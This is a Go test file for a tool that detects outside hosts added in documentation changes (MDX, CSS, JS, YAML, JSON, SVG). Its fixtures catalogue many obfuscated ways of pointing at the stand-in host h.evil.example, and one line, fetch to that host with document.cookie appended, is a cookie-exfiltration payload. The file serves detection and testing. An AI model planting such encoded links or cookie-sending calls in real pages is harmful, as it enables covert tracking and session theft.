package tool

import (
	"slices"
	"strings"
	"testing"
)

// An address that a browser follows to another host is listed, however it is written:
// H is the host. An address that a browser has to compute is listed as code.
func TestHostsAsBrowsersRead(t *testing.T) {
	const host = "h.evil.example"
	for _, c := range []struct{ file, text string }{
		{"a.mdx", `![x](//H/x.png)`}, {"a.mdx", `![x](https:\\H/x.png)`}, {"a.mdx", `![x](HTTPS://H/x.png)`}, {"a.mdx", `<img srcSet="https://H/x.png 2x" src="/a.png" />`},
		{"a.mdx", `<img srcSet="/a.png 1x, //H/x.png 2x" />`}, {"a.mdx", `![x](https&#58;//H/x.png)`}, {"a.mdx", `![x](https:/H/x.png)`}, {"a.mdx", `![x](https:H/x.png)`},
		{"a.mdx", `![x](https://user@H/x.png)`}, {"a.mdx", `![x](https://good.example@H/x.png)`}, {"a.mdx", "[x][r]\n\n[r]: https://H/a"}, {"a.mdx", `<a href="https:&#47;&#47;H">x</a>`},
		{"a.mdx", `<div style={{backgroundImage: "url(https://H/x.png)"}} />`}, {"a.mdx", "<style>{`@import url(//H/x.css);`}</style>"}, {"a.mdx", `<i className="bg-[url(https://H/x.png)]" />`},
		{"a.mdx", `<i className="bg-[url('//H/x.png')]" />`}, {"a.mdx", "export const u = \"https://H/x.png\"\n\n<img src={u} />"}, {"a.mdx", "---\ntitle: x\n\"og:image\": https://H/x.png\n---\nx"},
		{"a.mdx", "---\ntitle: x\nurl: //H/x\n---\nx"}, {"a.mdx", `<iframe src="https://H/" />`}, {"a.mdx", `<Card title="x" href="\\H\x">x</Card>`}, {"a.mdx", `<Card title="x" href="/\H/x">x</Card>`},
		{"a.mdx", "```mermaid\ngraph TD\nA-->B\nclick A href \"https://H/x\"\n```"}, {"a.mdx", `$\href{https://H/x}{y}$`}, {"a.mdx", `<a href="ftp://H/x">x</a>`}, {"a.mdx", `www.H`},
		{"a.mdx", "http://H/auto"}, {"a.mdx", "![x](https://h.evil\u3002example/x.png)"}, {"a.mdx", "[x](https://\u2064H/x)"}, {"a.mdx", "![x](<\thttps://H/x.png>)"},
		{"a.mdx", "<img src=\"\nhttps://H/x.png\" />"}, {"a.mdx", "<img src=\"ht\ntps://H/x.png\" />"}, {"a.mdx", "<img src=\"/\n/H/x.png\" />"}, {"a.mdx", `<svg><image href="https://H/x.png" /></svg>`},
		{"a.mdx", `<video poster="https://H/x.png" />`}, {"a.mdx", `<form action="https://H/x"><input formAction="/y" /></form>`}, {"a.mdx", `[x](https://H:8443/x)`}, {"a.mdx", `[x](https://%68.evil.example/x)`},
		{"a.mdx", `<a ping="//H/p" href="/index">x</a>`}, {"a.mdx", `<img {...{src: "https://H/x.png"}} />`}, {"a.mdx", `<meta httpEquiv="refresh" content="0;url=//H/x" />`}, {"a.mdx", `<img src={"\x68ttps:\u002f\u002fH/x"} />`},
		{"a.mdx", `<i style={{background: "url(\"https:\\2f\\2f H/x\")"}} />`}, {"a.md", `<img src="//H/x.png">`},
		{"a.css", `a{b:url(https://H/x)}`}, {"a.css", `@import "//H/x.css";`}, {"a.css", `a{b:url("https:\2f\2f H/x")}`}, {"a.css", "a{b:url(\"https:\\00002f\\00002fH/x\")}"}, {"a.css", `a{b:url( \68ttps://H/x)}`},
		{"a.js", `fetch("https://H/" + document.cookie)`}, {"a.js", `new Image().src = "//H"`}, {"a.js", `fetch("https:\/\/H/")`}, {"a.js", "fetch('\\x68ttps://H')"},
		{"a.yaml", "servers: [{url: \"https://H\"}]\n"}, {"a.yaml", "url: //H/x\n"}, {"a.json", `{"a": "https:\/\/H"}`}, {"a.json", `{"a": "\u002f\u002fH/x"}`},
		{"a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><image href="https&#x3a;//H/x"/></svg>`}, {"a.html", `<img src="https:\\H">`}, {"a.txt", "https://H"},
	} {
		text := strings.ReplaceAll(c.text, "H", host)
		text = strings.ReplaceAll(text, host+"TTPS", "HTTPS")
		r := Look(memory{"docs.json": "{}"}, "", []Change{{Path: c.file, Content: []byte(text + "\n")}})
		if !slices.ContainsFunc(r.NewHosts, func(l string) bool { return strings.HasPrefix(l, host+" (") || strings.HasPrefix(l, "www."+host+" (") }) {
			t.Errorf("%s %q: %q", c.file, c.text, r)
		}
	}
	for _, text := range []string{
		`<img src={"https://" + "H" + "/x.png"} />`, "<img src={`https:/${\"/\"}H/x.png`} />", "export const h = \"x\"\n\n<img src={\"//\" + h} />", `{["https:","","H"].join("/")}`,
		`<img src={atob("aHR0cHM6Ly9o")} />`, `<a href={"https://" + ["h", "e"].join(".")}>x</a>`, `<Card link={a + "//x"} />`, `<img src={a[0]} />`, `<img {...{src: a.b}} />`, `<img src={on ? a : b} />`,
	} {
		if r := Look(memory{"docs.json": "{}"}, "", []Change{{Path: "a.mdx", Content: []byte(text + "\n")}}); len(r.Executable) == 0 {
			t.Errorf("%s: nothing is listed as code", text)
		}
	}
}

// What leads to no other host is not listed.
func TestNoHosts(t *testing.T) {
	for _, c := range []struct{ file, text string }{
		{"a.mdx", "[a](/guides/a.b) [b](b.html) `https://x.example` [c](mailto:a@b.example) <Card title={title} {...props}>a // b.c</Card>"},
		{"a.mdx", "```bash\ncurl https://x.example\n```\n\nhttp: and https: are schemes, C:\\dir\\a.b is a path."},
		{"a.js", "x = 1 //a.b is a comment\n"}, {"a.css", "/* //a.b */ a{b:url(/x.png)}"}, {"a.yaml", "a: http://localhost:3000\n"}, {"a.mdx", "[x](http://localhost/a.b)"},
	} {
		if r := Look(memory{"docs.json": "{}"}, "", []Change{{Path: c.file, Content: []byte(c.text)}}); len(r.NewHosts) > 0 {
			t.Errorf("%s %q: %q", c.file, c.text, r.NewHosts)
		}
	}
}

// FuzzHosts: any text is read without a panic, and a host has no sign of an address.
func FuzzHosts(f *testing.F) {
	f.Add("https:\\\\a.b/c //d.e", true)
	f.Add(`\x2f\2f &#47;`, false)
	f.Fuzz(func(t *testing.T, text string, lists bool) {
		for _, m := range hostsIn(text, lists) {
			if m.text == "" || strings.ContainsAny(m.text, "/\\?# \n") || m.at > len(text) {
				t.Errorf("%q at %d", m.text, m.at)
			}
		}
	})
}
